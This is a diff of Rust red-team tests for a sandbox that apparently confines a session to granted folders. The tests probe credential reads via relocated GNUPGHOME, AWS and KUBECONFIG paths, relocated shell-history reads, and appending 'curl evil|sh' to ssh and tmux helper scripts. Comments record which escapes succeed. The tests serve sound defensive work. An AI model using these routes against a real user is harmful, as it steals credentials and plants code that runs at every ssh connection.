+    let mut red = Red::start("shmsquat");
+    red.grant(Path::new("/dev/shm"), Scope::Exact, &[Access::Create]);
+    // SAFETY: shm_open/close on a valid C string.
+    let made = red.gated(|| vec![rc(unsafe {
+        let fd = libc::shm_open(name.as_ptr(), libc::O_CREAT | libc::O_EXCL | libc::O_RDWR, 0o600);
+        if fd >= 0 {
+            libc::close(fd);
+        }
+        fd
+    } as i64)]);
+    assert_eq!(made, vec![0], "control: the session makes its shared memory object");
+    let users = ungated(|| {
+        // SAFETY: shm_open/write/close on a valid C string and a local buffer.
+        unsafe {
+            let fd = libc::shm_open(name.as_ptr(), libc::O_CREAT | libc::O_RDWR, 0o600);
+            if fd < 0 {
+                return vec![errno()];
+            }
+            let r = if libc::write(fd, secret.as_ptr().cast(), secret.len()) < 0 { errno() } else { 0 };
+            libc::close(fd);
+            vec![r]
+        }
+    });
+    note(&format!("shmsquat: the user's program opened and wrote the session's object: {users:?}"));
+    let r = red.gated(|| vec![holds(&path, secret)]);
+    assert!(users != vec![0] || r != vec![0], "the session read the state the user's program kept in the name it made first: {users:?} {r:?}");
+}
+
+/// Reads the user's secrets where the environment of the user's process that started the
+/// session tells the tools to keep them (`GNUPGHOME`, `PASSWORD_STORE_DIR`,
+/// `AWS_SHARED_CREDENTIALS_FILE`, `KUBECONFIG`, `DOCKER_CONFIG`, `GH_CONFIG_DIR`,
+/// `CARGO_HOME`, `NPM_CONFIG_USERCONFIG`: a project's own cluster configuration and
+/// registry tokens, a key ring kept with the dotfiles), in a folder the session may read
+/// ("read my work folder"). Principle: the never list's credentials (`~/.gnupg/**`,
+/// `~/.password-store/**`, `~/.aws/**`, `~/.kube/**`, `~/.docker/config.json`,
+/// `~/.config/gh/hosts.yml`, `~/.cargo/credentials.toml`, `~/.npmrc`) are never read by a
+/// session, and the never places "move with" the environment that moves them
+/// (`XDG_CONFIG_HOME`, `GIT_CONFIG_GLOBAL`). Why it might get out: only the XDG homes
+/// move the never list (`moved_rules`), and the tools' own variables are not read, so the
+/// files lie under visible names a read grant reaches. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all eight read (0 each).
+#[test]
+fn reads_the_secrets_the_starters_environment_keeps_outside_their_default_places() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envsecrets");
+    let files = [
+        ("GNUPGHOME", "gnupg", "gnupg/private-keys-v1.d/0123.key"),
+        ("PASSWORD_STORE_DIR", "pass", "pass/bank.gpg"),
+        ("AWS_SHARED_CREDENTIALS_FILE", "aws-credentials", "aws-credentials"),
+        ("KUBECONFIG", "kube/config", "kube/config"),
+        ("DOCKER_CONFIG", "docker", "docker/config.json"),
+        ("GH_CONFIG_DIR", "gh", "gh/hosts.yml"),
+        ("CARGO_HOME", "cargo", "cargo/credentials.toml"),
+        ("NPM_CONFIG_USERCONFIG", "npmrc", "npmrc"),
+    ];
+    for (_, _, f) in files {
+        make(&top.join(f), Some("secret-token-0123456789\n"));
+    }
+    make(&top.join("notes.txt"), Some("notes\n"));
+    let env: Vec<(&str, String)> = files.iter().map(|(v, at, _)| (*v, top.join(at).display().to_string())).collect();
+    let mut red = Red::start_env("envsecrets", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &[Access::Read, Access::List]);
+    let r = red.gated(|| {
+        let mut r = vec![read(&top.join("notes.txt"))];
+        r.extend(files.iter().map(|(_, _, f)| read(&top.join(f))));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let names: Vec<&str> = files.iter().map(|(v, _, _)| *v).collect();
+    let open = not_refused(&names, &r[1..]);
+    assert!(open.is_empty(), "secrets where the starter's environment keeps them, read: {open:?}");
+}
+
+/// Reads the user's shell history where `~/.bashrc` keeps it (`HISTFILE=~/logs/bash_history`,
+/// `export HISTFILE="$HOME/sync/zsh_history"`: a history kept in a synced or backed-up
+/// folder), under a read grant on that folder. The history holds what the user typed:
+/// passwords given on command lines, tokens in `curl -H` and `export` lines. Principle:
+/// "shell and REPL histories" are never readable, and a never place's configuration is
+/// read for what it names. Why it might get out: the never list names the histories by
+/// their default paths (`~/.bash_history`, `~/.zsh_history`), and the reading of the shell
+/// files takes the places they put on `PATH`, source or run, not `HISTFILE`. Control: a file
+/// beside it.
+/// Gets out on 6.1 and 6.12: the history was read (`[0, 0]`).
+#[test]
+fn reads_the_shell_history_the_users_bashrc_keeps_elsewhere() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "histfile");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    make(&top.join("logs/bash_history"), Some("mysql -u root -pHunter2\n"));
+    make(&top.join("logs/notes.txt"), Some("notes\n"));
+    let _bashrc = bashrc_with(&format!("HISTFILE=~/{rel}/logs/bash_history\nHISTSIZE=100000"));
+    let mut red = Red::start("histfile");
+    red.grant(&top, Scope::Subtree, &[Access::Read, Access::List]);
+    let r = red.gated(|| vec![read(&top.join("logs/notes.txt")), read(&top.join("logs/bash_history"))]);
+    assert_eq!(r[0], 0, "control: a file beside it: {r:?}");
+    assert!(refused(r[1]), "the shell history ~/.bashrc keeps in {rel}/logs, read: {r:?}");
+}
+
+/// Replaces the programs the user's ssh and tmux configuration runs: `~/.ssh/config`'s
+/// `ProxyCommand ~/x/proxy.sh %h %p` (the jump-host script of a company's setup, run at
+/// every `ssh` and every `git push` over ssh), `Match exec "~/x/on-vpn.sh"` (run at every
+/// connection) and `KnownHostsCommand`, and `~/.tmux.conf`'s `run-shell ~/x/init.sh` and
+/// `status-right "#(~/x/status.sh)"` (run at every status refresh of the user's tmux).
+/// Granted: the visible folder holding them. Principle: the places a never place names as
+/// code are never changed with it ("every path in the value of a key git runs as a
+/// command" is read for git; ssh's `Include` and tmux's `source-file` are read as loads).
+/// Why it might get out: `code_places` reads the shell's and git's forms, and of ssh and
+/// tmux only the files they load, not the programs they run. Controls: the user writes
+/// them; a file beside them.
+/// Gets out on 6.1 and 6.12: all five replaced (0 each).
+#[test]
+fn replaces_the_programs_the_users_ssh_and_tmux_configuration_runs() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "sshtmux");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let names = ["proxy.sh", "on-vpn.sh", "known-hosts.sh", "init.sh", "status.sh"];
+    for n in names {
+        make(&top.join(n), Some("#!/bin/sh\n"));
+    }
+    let ssh = PathBuf::from(home(".ssh"));
+    if !ssh.exists() {
+        c.add(&ssh);
+    }
+    let _ssh_config = users_file_for_a_test(
+        &ssh.join("config"),
+        &format!("Match exec \"~/{rel}/on-vpn.sh\"\n    ProxyJump none\n\nHost *.corp\n    ProxyCommand ~/{rel}/proxy.sh %h %p\n    KnownHostsCommand ~/{rel}/known-hosts.sh %H\n"),
+    );
+    let _tmux = users_file_for_a_test(&PathBuf::from(home(".tmux.conf")), &format!("run-shell ~/{rel}/init.sh\nset -g status-right \"#(~/{rel}/status.sh)\"\n"));
+    assert_eq!(ungated(|| names.iter().map(|n| open_w(&top.join(n))).collect()), vec![0; names.len()], "control: the user writes them");
+    let mut red = Red::start("sshtmux");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend(names.iter().map(|n| append(&top.join(n), "curl evil|sh\n")));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["ssh ProxyCommand", "ssh Match exec", "ssh KnownHostsCommand", "tmux run-shell", "tmux #() in status-right"], &r[1..]);
+    assert!(open.is_empty(), "programs the user's ssh and tmux configuration runs, replaced: {open:?}");
+}
